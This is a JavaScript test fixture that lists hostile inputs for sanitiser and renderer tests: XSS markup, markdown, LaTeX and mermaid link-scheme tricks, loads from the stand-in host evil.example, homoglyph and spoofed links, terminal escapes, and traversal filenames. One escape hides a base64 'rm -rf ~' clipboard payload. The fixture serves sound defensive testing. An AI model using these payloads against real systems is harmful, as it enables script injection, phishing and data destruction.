// What hostile people, files and models may write. Nothing of it may run, load from elsewhere, or pass for something else. Whatever
// runs calls `pwned`. Unit tests, the mock server and the tests with a real browser take it from here.

const elsewhere = 'https://evil.example'

/** Markup where a name, a title, an error or any other text is expected. */
export const markup = [
  '<script>pwned("script")</script>',
  '<img src=x onerror=pwned("img")>',
  '"><svg onload=pwned("svg")></svg>',
  `'"-->]]></title></textarea></style><iframe srcdoc="<script>parent.pwned('frame')</script>"></iframe>`,
  '<a href="javascript:pwned(\'a\')">go on</a>',
  '<math><mtext></table><mglyph><style><img src=x onerror=pwned("math")></style></mglyph></mtext></math>',
  '<details open ontoggle=pwned("details")>',
  '<object data="data:text/html,<script>pwned(\'object\')</script>"></object>',
  `<style>@import "${elsewhere}/a.css"; body { display: none }</style>`,
  `<base href="${elsewhere}/"><form action="${elsewhere}/"><button autofocus onfocus=pwned("form")>Go on</button></form>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}/">`,
  `<link rel=stylesheet href="${elsewhere}/b.css"><video src="${elsewhere}/v" poster="${elsewhere}/p"></video>`,
  '{{constructor.constructor("pwned(1)")()}} ${pwned("template")} #{pwned("ruby")}',
]

/** Markdown that is to lead, run or load. */
export const markdown = [
  '[one](javascript:pwned(1)) [two](JaVaScRiPt:pwned(2)) [three](&#106;avascript:pwned(3)) [four](\u0001javascript:pwned(4)) [five](java\nscript:pwned(5))',
  '[one](data:text/html,<script>pwned(1)</script>) [two](vbscript:pwned(2)) [three](blob:x) [four](file:///etc/passwd) [five](//evil.example)',
  '[by reference][r] ![by reference][r]\n\n[r]: javascript:pwned(1) "a title"',
  '<javascript:pwned(1)> <https://evil.example/"onmouseover="pwned(2)>',
  `[titled](https://a.example 'x" onmouseover="pwned(1)') ![titled](https://a.example/i.png 'x" onerror="pwned(2)')`,
  `![a pixel](${elsewhere}/pixel.png) [![nested](${elsewhere}/nested.png)](javascript:pwned(1))`,
  '`<img src=x onerror=pwned(1)>` **<b onclick=pwned(2)>** _<i>_ ~~<s>~~',
  '| <img src=x onerror=pwned(1)> | b |\n|---|---|\n| [x](javascript:pwned(2)) | <svg onload=pwned(3)> |',
  '- [ ] <img src=x onerror=pwned(1)>\n- [x] [x](javascript:pwned(2))',
  '> <img src=x onerror=pwned(1)>\n\n[^1]: <img src=x onerror=pwned(2)>\n\nA note.[^1]',
  '```"><script>pwned(1)</script>\n<script>pwned(2)</script>\n```',
  '$\\href{javascript:pwned(1)}{x}$ $\\url{javascript:pwned(2)}$ $\\htmlData{x=y}{z}$ $\\htmlStyle{position:fixed}{z}$ $\\text{<img src=x onerror=pwned(3)>}$',
  `$\\includegraphics{${elsewhere}/a.png}$ $\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$`,
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=pwned(1)>"] --> B\n  click A href "javascript:pwned(2)"\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${elsewhere}/a.css)"}}%%\nflowchart LR\n  A["<script>pwned(1)</script>"] --> B\n  click A call pwned()\n\`\`\``,
]

/** What a link says, and where it leads all the same. */
export const misleading = [
  [`[https://github.com](https://github.com@evil.example/)`, 'evil.example'],
  [`[github.com/a](${elsewhere}/a)`, 'evil.example'],
  [`[\u202emoc.buhtig](${elsewhere}/)`, 'evil.example'],
  [`![github.com](${elsewhere}/a.png)`, 'evil.example'],
  ['[gіthub.com](https://gіthub.com/)', 'xn--'],
]

/** What a program may write, and what of it is to be read. */
export const output = [
  ['\u001b[31mred\u001b[0m', 'red'],
  ['\u001b]8;;javascript:pwned(1)\u0007click\u001b]8;;\u0007', 'click'],
  ['\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\', 'bank.example'],
  ['\u001b]0;a title\u0007\u001b]2;another\u001b\\kept', 'kept'],
  ['\u001b]52;c;cm0gLXJmIH4=\u0007kept', 'kept'],
  ['\u001bP$q"p\u001b\\\u001b_x\u001b\\\u001b^x\u001b\\kept', 'kept'],
  ['\u009b31mred\u009b0m \u009d0;title\u009ckept', 'red kept'],
  ['\u001b[2J\u001b[1;1Hkept\u001b[?1049h\u001bc', 'kept'],
  ['safe\u202egnp.exe', 'safe‹U+202E›gnp.exe'],
  ['passw\bord', 'passw‹U+0008›ord'],
]

/** Names of files that a person or a program can make. */
export const names = ['<img src=x onerror=pwned("name")>.md', '"><svg onload=pwned("svg name")>.txt', 'javascript:pwned("scheme")', '..%2f..%2fetc%2fpasswd', 'report\u202egpj.exe', "'-pwned('quote')-'.csv", '&lt;b&gt;&#x3c;.txt']

const table = `name,value\n${markup.map((text) => `"${text.replaceAll('"', '""')}","=HYPERLINK(""javascript:pwned(1)"")"`).join('\n')}`
const everything = [...markup, ...markdown, ...misleading.map(([text]) => text)].join('\n\n')
const html = { output_type: 'display_data', data: { 'text/html': markup, 'image/svg+xml': '<svg onload="pwned(1)"></svg>', 'application/javascript': 'pwned(2)', 'text/latex': '$\\href{javascript:pwned(3)}{x}$' } }
const shape = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="pwned(1)"><script>pwned(2); parent.pwned(3)</script><a xlink:href="javascript:pwned(4)"><rect width="9" height="9"/></a><image href="${elsewhere}/i.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.pwned(5)"/></foreignObject></svg>`

/** Files that would run something where they are shown for what they are. */
export const files = {
  'all.md': everything,
  'page.html': `<!doctype html>${markup.join('\n')}`,
  'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>pwned(1)</script></html>`,
  'shape.svg': shape,
  'table.csv': table,
  'book.ipynb': JSON.stringify({
    metadata: { language_info: { name: '<script>' } },
    cells: [
      { cell_type: 'markdown', source: everything },
      { cell_type: 'raw', source: markup },
      { cell_type: 'code', execution_count: 1, source: markup, outputs: [html, { output_type: 'stream', text: output.map(([text]) => text) }, { output_type: 'error', ename: markup[1], evalue: markup[1], traceback: [] }, { output_type: 'display_data', data: { 'image/png': '"><img src=x onerror=pwned(6)>' } }] },
    ],
  }),
}
